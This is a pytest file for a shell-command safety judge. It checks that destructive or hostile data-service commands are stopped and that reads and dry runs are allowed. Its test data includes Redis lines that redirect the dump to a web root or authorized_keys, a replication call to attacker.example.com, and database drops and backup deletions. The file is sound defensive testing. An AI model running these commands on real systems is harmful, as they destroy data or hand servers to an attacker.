"""Data services and the data movement around them, families the fourth held-out probe found
(notes/heldout4_data.py): Redis administration that crashes or re-points the server, search
indices' upkeep (which loses nothing), backups deleted by borg and restic, ZFS receives that
roll back, rclone runs whose option values looked like paths, S3 downloads, helm --force,
buildah's working containers. Each with its dry run or read that must keep running.
"""

from __future__ import annotations

import pytest
from judgekit import stops

REDIS_ADMIN = [
    "redis-cli -h redis.prod DEBUG SEGFAULT",
    "redis-cli debug restart",
    "redis-cli CONFIG SET dir /var/www/html",
    'redis-cli -a "$PW" config set dbfilename authorized_keys',
    "redis-cli CONFIG SET maxmemory 2gb dir /tmp",
    "redis-cli -c -h 10.0.0.5 CLUSTER RESET HARD",
    "redis-cli CLUSTER FORGET 07c37dfeb235213a872192d90877d0cd55635b91",
    "redis-cli REPLICAOF 10.0.0.9 6379",
    "valkey-cli slaveof attacker.example.com 6379",
    "redis-cli FUNCTION FLUSH",
    "echo 'DEBUG SEGFAULT' | redis-cli -h cache",
    "redis-cli --cluster call 10.0.0.1:7000 CLUSTER FAILOVER",
]
REDIS_READS = [
    "redis-cli CONFIG GET dir",
    "redis-cli CONFIG SET maxmemory 2gb",
    "redis-cli REPLICAOF NO ONE",
    "redis-cli DEBUG OBJECT user:1",
    "redis-cli CLUSTER INFO",
    "redis-cli CLUSTER NODES",
    "redis-cli FUNCTION LIST",
    "redis-cli GET dir",
    "redis-cli INFO replication",
]


@pytest.mark.parametrize("line", REDIS_ADMIN)
def test_redis_administration_that_crashes_or_repoints_the_server_asks(line: str) -> None:
    assert stops(line), line


@pytest.mark.parametrize("line", REDIS_READS)
def test_redis_reads_and_ordinary_settings_run(line: str) -> None:
    assert not stops(line), line


SEARCH_UPKEEP = [
    "curl -X POST localhost:9200/orders/_refresh",
    "curl -X POST 'http://localhost:9200/_refresh'",
    "curl -XPOST localhost:9200/orders/_flush",
    "curl -X POST localhost:9200/orders/_cache/clear",
    "curl -X POST localhost:9200/orders/_open",
    'curl -X PUT localhost:9200/products -d \'{"settings":{"number_of_shards":1}}\'',
    "curl -XPUT 'http://localhost:9200/logs-2024.06.01'",
]
SEARCH_DESTRUCTION = [
    "curl -X DELETE localhost:9200/products",
    "curl -X PUT 'localhost:9200/logs-*'",
    "curl -X PUT localhost:9200/_all/_settings -d '{\"index.blocks.read_only\":true}'",
    "curl -X POST localhost:9200/_all/_close",
    "curl -X POST localhost:9200/orders/_close",
    "curl -X PUT localhost:9200/_cluster/settings -d '{}'",
    "curl -X PUT localhost:9200/products/_settings -d '{\"number_of_replicas\":0}'",
    "curl -X POST 'localhost:9200/orders/_delete_by_query' -d '{\"query\":{\"match_all\":{}}}'",
    "curl -X POST 'localhost:9200/_refresh?q=DROP%20TABLE%20x'",
]


@pytest.mark.parametrize("line", SEARCH_UPKEEP)
def test_refreshing_flushing_or_creating_a_search_index_runs(line: str) -> None:
    assert not stops(line), line


@pytest.mark.parametrize("line", SEARCH_DESTRUCTION)
def test_deleting_closing_or_reconfiguring_indices_asks(line: str) -> None:
    assert stops(line), line


BACKUP_DELETES = [
    "borg prune --keep-within 7d --list /backup/repo",
    "borg delete /backup/repo::Monday",
    "borg --remote-path borg1 delete ssh://backup@host/./repo",
    "borgmatic prune",
    "restic forget --keep-last 1 --prune",
    "restic -r s3:s3.amazonaws.com/backups forget --keep-daily 7",
    "restic --repo /srv/restic prune",
    "restic key remove 5c657874",
    "restic rewrite --exclude '*.iso' --forget latest",
    "rustic forget --keep-daily 7 --prune",
    "kopia snapshot delete k1234567 --delete",
    "kopia snapshot expire --all --delete",
    "duplicity remove-older-than 6M --force file:///backup",
    "duplicity remove-all-but-n-full 2 --force sftp://backup@host/repo",
    "rdiff-backup --remove-older-than 2W /backup/home",
    "rdiff-backup remove increments --older-than 2W /backup/home",
    "tarsnap -d -f nightly-2024-01-01",
    "tarsnap --nuke",
]
BACKUP_READS = [
    "borg prune -n --keep-within 7d /backup/repo",
    "borg prune --dry-run --list --keep-daily=7 /backup/repo",
    "borg delete --dry-run /backup/repo::Monday",
    "restic forget --keep-last 3 --prune --dry-run",
    "restic -r /srv/restic snapshots",
    "restic key list",
    "restic rewrite --exclude '*.iso' latest",
    "borg list /backup/repo",
    "borg create /backup/repo::x ~/src",
    "kopia snapshot delete k1234567",
    "kopia snapshot list",
    "duplicity remove-older-than 6M file:///backup",
    "duplicity collection-status file:///backup",
    "rdiff-backup --list-increments /backup/home",
    "tarsnap --list-archives",
    "tarsnap -c -f nightly ~/work",
]


@pytest.mark.parametrize("line", BACKUP_DELETES)
def test_deleting_backups_asks(line: str) -> None:
    assert stops(line), line


@pytest.mark.parametrize("line", BACKUP_READS)
def test_listing_backups_or_a_dry_run_prune_runs(line: str) -> None:
    assert not stops(line), line


VOLUME_LOSSES = [
    "zfs receive -F tank/backup",
    "zfs recv -Fu tank/backup",
    "zfs destroy -v tank/home@snap1%snap9",
    "zfs destroy -r tank/data",
    "lvremove -y vg0/data",
]
VOLUME_DRY_RUNS = [
    "zfs destroy -nv tank/home@%",
    "zfs destroy -n -r tank/data",
    "zfs receive tank/backup",
    "zfs recv -nvF tank/backup",
    "lvremove --test vg0/data",
    "vgremove -t vg0",
]


@pytest.mark.parametrize("line", VOLUME_LOSSES)
def test_destroying_or_rolling_back_a_volume_stops(line: str) -> None:
    assert stops(line), line


@pytest.mark.parametrize("line", VOLUME_DRY_RUNS)
def test_volume_dry_runs_run(line: str) -> None:
    assert not stops(line), line


SYNC_DELETES = [
    "rclone delete remote:logs --min-age 0s",
    "rclone delete --min-age 0s remote:logs",
    "rclone --max-age 24h purge remote:old",
    "rclone sync --bwlimit 10M ./a remote:b",
    "rclone dedupe --dedupe-mode newest remote:photos",
    "rclone dedupe oldest remote:photos",
    "gsutil -m rsync -r -d ./site gs://www.example.com",
    "azcopy sync ./site 'https://acct.blob.core.windows.net/web' --delete-destination=true",
]
SYNC_DRY_RUNS = [
    "rclone -n delete remote:logs",
    "rclone delete --dry-run remote:logs --min-age 0s",
    "rclone dedupe remote:photos",
    "rclone dedupe --dedupe-mode rename remote:photos",
    "rclone dedupe --dedupe-mode newest --dry-run remote:photos",
    "gsutil -m rsync -r -d -n ./site gs://www.example.com",
    "rclone copy --max-age 24h remote:logs ./logs",
    "azcopy sync ./site 'https://acct.blob.core.windows.net/web' --delete-destination=prompt",
    "azcopy sync ./site 'https://acct.blob.core.windows.net/web' --delete-destination=false",
]


@pytest.mark.parametrize("line", SYNC_DELETES)
def test_sync_deletes_with_option_values_still_ask(line: str) -> None:
    assert stops(line), line


@pytest.mark.parametrize("line", SYNC_DRY_RUNS)
def test_sync_dry_runs_and_interactive_dedupes_run(line: str) -> None:
    assert not stops(line), line


S3_UPLOADS = [
    "aws s3 cp dist/app.tgz s3://b/app.tgz",
    "aws s3 cp s3://a/x.txt s3://b/x.txt",
    "aws s3 sync ./site s3://www.example.com",
    "aws s3 sync --exclude '*.tmp' ./site s3://www.example.com",
    "aws s3 mv s3://b/x.txt ./x.txt",
]
S3_DOWNLOADS = [
    "aws s3 cp s3://prod-data/report.csv .",
    "aws s3 cp --recursive s3://b/logs/ logs/",
    "aws s3 sync s3://prod-data ./local-copy --exclude '*.tmp'",
    "aws s3 cp s3://b/a.txt -",
]


@pytest.mark.parametrize("line", S3_UPLOADS)
def test_copies_into_s3_change_the_account(line: str) -> None:
    from judgekit import decide

    from safesh.model import Tier

    assert decide(line) != Tier.ALLOW, line


@pytest.mark.parametrize("line", S3_DOWNLOADS)
def test_downloads_from_production_buckets_run(line: str) -> None:
    assert not stops(line), line


@pytest.mark.parametrize(
    "line",
    [
        "helm upgrade shop ./chart --force",
        "helm rollback shop 3 -n prod --force",
        "helm upgrade --install web ./chart --force-replace",
        "buildah rm --all",
        "buildah rmi --prune",
        "podman machine reset -f",
    ],
)
def test_replacing_release_resources_or_working_containers_asks(line: str) -> None:
    assert stops(line), line


@pytest.mark.parametrize(
    "line",
    [
        "helm upgrade shop ./chart",
        "helm upgrade shop ./chart --force --dry-run",
        "buildah images",
        "buildah ps",
    ],
)
def test_ordinary_helm_upgrades_and_buildah_reads_run(line: str) -> None:
    assert not stops(line), line


GLUED_STATEMENTS = [
    'cockroach sql --execute="DROP DATABASE bank CASCADE"',
    'snowsql -q"DROP DATABASE analytics"',
    "vsql --command='TRUNCATE TABLE events'",
    'trino --execute="DELETE FROM hive.web.page_views"',
]
GLUED_READS = [
    'cockroach sql --execute="SHOW DATABASES"',
    'snowsql -q"SELECT CURRENT_VERSION()"',
    "trino --execute='SELECT 1' --output-format=CSV",
]


@pytest.mark.parametrize("line", GLUED_STATEMENTS)
def test_a_statement_glued_to_its_option_is_read(line: str) -> None:
    assert stops(line), line


@pytest.mark.parametrize("line", GLUED_READS)
def test_a_read_glued_to_its_option_runs(line: str) -> None:
    assert not stops(line), line


DUMPS_PIPED_INTO_A_CLIENT = [
    "pg_dump --clean app | psql -h db.prod app",
    "pg_dump -c app | psql postgresql://prod/app",
    "pg_dump -cO app | psql app_staging",
    "pg_dumpall --clean | psql -h db.prod postgres",
    "mysqldump shop | mysql -h db.prod shop",
    "mysqldump --add-drop-database --databases shop | mysql -h db.prod",
    "mariadb-dump shop | mariadb shop_staging",
]
DUMPS_THAT_ONLY_ADD = [
    "pg_dump app | psql app_copy",
    "pg_dump -Fc app | psql app_copy",
    "pg_dump -t users app | psql app_copy",
    "mysqldump --no-create-info shop | mysql shop_copy",
    "mysqldump --skip-add-drop-table shop | mysql shop_copy",
    "mysqldump shop | gzip",
]


@pytest.mark.parametrize("line", DUMPS_PIPED_INTO_A_CLIENT)
def test_a_dump_that_drops_piped_into_a_client_asks(line: str) -> None:
    assert stops(line), line


@pytest.mark.parametrize("line", DUMPS_THAT_ONLY_ADD)
def test_a_dump_that_only_creates_piped_into_a_client_runs(line: str) -> None:
    assert not stops(line), line


RESTORES_OVER_LIVE_STATE = [
    "influx restore /backups/2024-01-01 --full",
    "consul snapshot restore backup.snap",
    "nomad operator snapshot restore backup.snap",
    "vault operator raft snapshot restore -force raft.snap",
    "pgbackrest --stanza=main --delta restore",
    "pgbackrest --stanza=main restore --force",
    "gitlab-backup restore BACKUP=1700000000_2024_01_01",
    "wal-g delete retain FULL 3 --confirm",
    "wal-g backup-delete before FIND_FULL base_000000010000000000000010 --confirm",
    "pgbackrest --stanza=main expire --repo1-retention-full=1",
]
SNAPSHOT_READS = [
    "influx restore /backups/2024-01-01 --bucket telemetry --new-bucket telemetry_restored",
    "consul snapshot save backup.snap",
    "consul snapshot inspect backup.snap",
    "vault operator raft snapshot save raft.snap",
    "pgbackrest --stanza=main info",
    "pgbackrest --stanza=main backup --type=full",
    "gitlab-backup create",
    "wal-g delete retain FULL 3",
    "wal-g backup-list",
]


@pytest.mark.parametrize("line", RESTORES_OVER_LIVE_STATE)
def test_restoring_over_a_live_service_or_expiring_its_backups_asks(line: str) -> None:
    assert stops(line), line


@pytest.mark.parametrize("line", SNAPSHOT_READS)
def test_taking_or_reading_snapshots_runs(line: str) -> None:
    assert not stops(line), line


@pytest.mark.parametrize(
    "line",
    [
        "sqlcmd -S . -E -Q \"EXEC sp_MSforeachtable 'DROP TABLE ?'\"",
        "sqlcmd -Q \"EXEC sp_executesql N'TRUNCATE TABLE dbo.Orders'\"",
        "sqlcmd -Q \"EXECUTE master.sys.sp_MSforeachdb 'DROP DATABASE [?]'\"",
    ],
)
def test_tsql_running_a_drop_it_holds_as_text_asks(line: str) -> None:
    assert stops(line), line


def test_tsql_running_a_count_for_each_table_runs() -> None:
    assert not stops("sqlcmd -Q \"EXEC sp_MSforeachtable 'SELECT COUNT(*) FROM ?'\"")
